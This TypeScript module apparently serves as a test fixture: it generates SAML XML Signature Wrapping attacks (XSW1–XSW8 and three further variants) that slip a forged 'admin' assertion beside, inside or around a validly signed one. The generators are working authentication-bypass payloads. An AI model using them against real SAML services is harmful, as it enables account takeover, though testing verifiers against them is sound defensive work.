import { assertionXml, type GivenParts, responseParts, responseXml } from './response.ts'
import { signed } from './sign.ts'

// Signature wrapping as Somorovsky et al. number it (USENIX Security 2012): the signature holds, for another part than the one that is read.

const evilId = '_evil'
const evilName = '<saml:NameID>admin</saml:NameID>'

/** A rightly signed message, taken apart, and what an attacker would like to say instead. */
function material(given: GivenParts, element: 'Assertion' | 'Response') {
  const parts = responseParts(given)
  const message = signed(responseXml(parts), { element, provider: parts.provider })
  const signature = cut(message, 'ds:Signature')
  const assertion = cut(message, 'saml:Assertion')
  return {
    parts,
    message,
    signature,
    assertion,
    bareAssertion: assertion.replace(signature, ''),
    evil: assertionXml({ ...parts, assertionId: evilId, nameId: evilName }),
  }
}

/** From the first opening to the last closing tag. */
export function cut(xml: string, name: string): string {
  return xml.slice(xml.indexOf(`<${name}`), xml.lastIndexOf(`</${name}>`) + name.length + 3)
}

const beforeEnd = (xml: string, name: string, inserted: string) => {
  const at = xml.lastIndexOf(`</${name}>`)
  return xml.slice(0, at) + inserted + xml.slice(at)
}

const afterIssuer = (xml: string, inserted: string) => xml.replace('</saml:Issuer>', `</saml:Issuer>${inserted}`)

const object = (content: string) => `<ds:Object>${content}</ds:Object>`

type Wrapping = (given: GivenParts) => string

/** XSW1: the signed Response lies inside the signature of another one. */
const insideSignature: Wrapping = (given) => {
  const { parts, message, signature } = material(given, 'Response')
  const evil = responseXml({ ...parts, responseId: evilId, nameId: evilName })
  return afterIssuer(evil, beforeEnd(signature, 'ds:Signature', object(message.replace(signature, ''))))
}

/** XSW2: the signed Response stands before its signature, in another one. */
const besideSignature: Wrapping = (given) => {
  const { parts, message, signature } = material(given, 'Response')
  const evil = responseXml({ ...parts, responseId: evilId, nameId: evilName })
  return afterIssuer(evil, message.replace(signature, '') + signature)
}

/** XSW3: another assertion before the signed one. */
const assertionBefore: Wrapping = (given) => {
  const { message, assertion, evil } = material(given, 'Assertion')
  return message.replace(assertion, evil + assertion)
}

/** XSW4: the signed assertion inside another one. */
const assertionInside: Wrapping = (given) => {
  const { message, assertion, evil } = material(given, 'Assertion')
  return message.replace(assertion, beforeEnd(evil, 'saml:Assertion', assertion))
}

/** XSW5: the signature moves into the other assertion, the signed one stands behind. */
const signatureMoved: Wrapping = (given) => {
  const { message, assertion, bareAssertion, signature, evil } = material(given, 'Assertion')
  return message.replace(assertion, afterIssuer(evil, signature) + bareAssertion)
}

/** XSW6: as before, with the signed one inside the signature. */
const signatureMovedWithContent: Wrapping = (given) => {
  const { message, assertion, bareAssertion, signature, evil } = material(given, 'Assertion')
  return message.replace(assertion, afterIssuer(evil, beforeEnd(signature, 'ds:Signature', bareAssertion)))
}

/** XSW7: the other assertion in Extensions. */
const inExtensions: Wrapping = (given) => {
  const { message, evil } = material(given, 'Assertion')
  return afterIssuer(message, `<samlp:Extensions>${evil}</samlp:Extensions>`)
}

/** XSW8: the signed one in an Object of the signature, which stands in the other one. */
const inObject: Wrapping = (given) => {
  const { message, assertion, bareAssertion, signature, evil } = material(given, 'Assertion')
  return message.replace(assertion, afterIssuer(evil, beforeEnd(signature, 'ds:Signature', object(bareAssertion))))
}

/** Both carry the ID that the signature names. */
const sameId: Wrapping = (given) => {
  const { parts, message, assertion } = material(given, 'Assertion')
  return message.replace(assertion, assertionXml({ ...parts, nameId: evilName }) + assertion)
}

/** The other assertion of another namespace, which only a reader of local names takes for one. */
const otherNamespace: Wrapping = (given) => {
  const { message, assertion, evil } = material(given, 'Assertion')
  const renamed = evil
    .replace('<saml:Assertion ', '<x:Assertion xmlns:x="urn:x" ')
    .replace('</saml:Assertion>', '</x:Assertion>')
  return message.replace(assertion, renamed + assertion)
}

const inAdvice: Wrapping = (given) => {
  const { message, assertion, evil } = material(given, 'Assertion')
  return message.replace(assertion, beforeEnd(assertion, 'saml:Assertion', `<saml:Advice>${evil}</saml:Advice>`))
}

export const wrappings = {
  'XSW1: a signed Response inside the signature of another': insideSignature,
  'XSW2: a signed Response beside its signature in another': besideSignature,
  'XSW3: an assertion before the signed one': assertionBefore,
  'XSW4: the signed assertion inside another': assertionInside,
  'XSW5: the signature moved to another assertion': signatureMoved,
  'XSW6: the signed assertion inside the moved signature': signatureMovedWithContent,
  'XSW7: an assertion in Extensions': inExtensions,
  'XSW8: the signed assertion in an Object of the moved signature': inObject,
  'an assertion with the ID of the signed one': sameId,
  'an assertion of another namespace before the signed one': otherNamespace,
  'an assertion in the Advice of the signed one': inAdvice,
} satisfies Record<string, Wrapping>
